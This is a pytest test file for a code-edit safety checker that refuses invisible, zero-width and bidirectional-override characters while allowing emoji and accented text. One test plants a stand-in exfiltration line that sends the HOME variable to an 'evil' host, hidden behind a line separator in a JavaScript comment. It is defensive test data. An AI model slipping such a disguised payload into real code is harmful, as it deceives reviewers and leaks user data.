"""The safety checks every result passes: characters that change how code reads."""

from __future__ import annotations

import pytest

from blitzls.core.errors import UnsafeTextError
from blitzls.core.safety import check_result
from blitzls.core.task import EditTask
from blitzls.text.lines import split_lines

SOURCE = 'def greet(name):\n    # say hello 😀\n    return "hi " + name\n'


def task(text: str = SOURCE, language: str = "python") -> EditTask:
    lines = tuple(split_lines(text))
    return EditTask(lines, language, (0, 3), (1, 2), (1, 2), "rewrite", "definition")


@pytest.mark.parametrize(
    ("char", "name"),
    [
        ("\u202e", "U+202E RIGHT-TO-LEFT OVERRIDE"),
        ("\u2066", "U+2066 LEFT-TO-RIGHT ISOLATE"),
        ("\u200b", "U+200B ZERO WIDTH SPACE"),
        ("\u200d", "U+200D ZERO WIDTH JOINER"),
        ("\u00ad", "U+00AD SOFT HYPHEN"),
        ("\ufeff", "U+FEFF ZERO WIDTH NO-BREAK SPACE"),
        ("\U000e0041", "U+E0041 TAG LATIN CAPITAL LETTER A"),
        ("\u2028", "U+2028 LINE SEPARATOR"),
        ("\u2029", "U+2029 PARAGRAPH SEPARATOR"),
    ],
)
def test_invisible_and_line_breaking_characters_are_refused_by_name_and_line(
    char: str, name: str
) -> None:
    new = SOURCE.replace("# say hello 😀", f"# say hello 😀 {char}admin")
    with pytest.raises(UnsafeTextError) as refused:
        check_result(task(), new)
    message = str(refused.value)
    assert name in message and "(line 2)" in message and "nothing was changed" in message


def test_a_line_separator_in_javascript_is_refused_where_a_comment_would_hide_code() -> None:
    source = "function f() {\n  // ok\n  return 1;\n}\n"
    new = source.replace("// ok", "// harmless\u2028fetch('http://evil/' + process.env.HOME);")
    with pytest.raises(UnsafeTextError, match=r"U\+2028 LINE SEPARATOR \(line 2\)"):
        check_result(task(source, "javascript"), new)


def test_characters_the_file_already_has_are_allowed() -> None:
    source = SOURCE.replace("hello 😀", "hello 👨\u200d👩\u200d👧 \u2028")
    check_result(task(source), source.replace('"hi "', '"hi 👩\u200d👧\u2028"'))


def test_emoji_accents_and_cjk_are_not_format_characters() -> None:
    new = SOURCE.replace("# say hello 😀", "# dis bonjour à 東京 👋🏽 — ✓")
    check_result(task(), new)
